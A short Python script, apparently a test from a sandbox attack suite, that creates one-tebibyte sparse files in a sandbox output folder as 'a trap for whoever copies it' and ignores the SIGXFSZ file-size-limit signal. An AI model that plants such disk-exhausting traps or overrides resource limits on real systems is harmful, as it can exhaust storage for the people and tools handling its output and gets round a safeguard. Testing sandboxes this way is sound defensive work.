"""Makes a file of one tebibyte that takes no space, a trap for whoever copies it."""
import os

from attack import try_each


def truncate():
    with open("/sandbox/out/files/sparse", "wb") as file:
        file.truncate(1 << 40)
    return os.stat("/sandbox/out/files/sparse").st_size


def seek():
    with open("/sandbox/out/files/sought", "wb") as file:
        file.seek(1 << 40)
        file.write(b"x")
    return os.stat("/sandbox/out/files/sought").st_size


import signal  # noqa: E402  (the signal that comes with EFBIG would end us)
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
try_each([("truncate", truncate), ("seek", seek)])
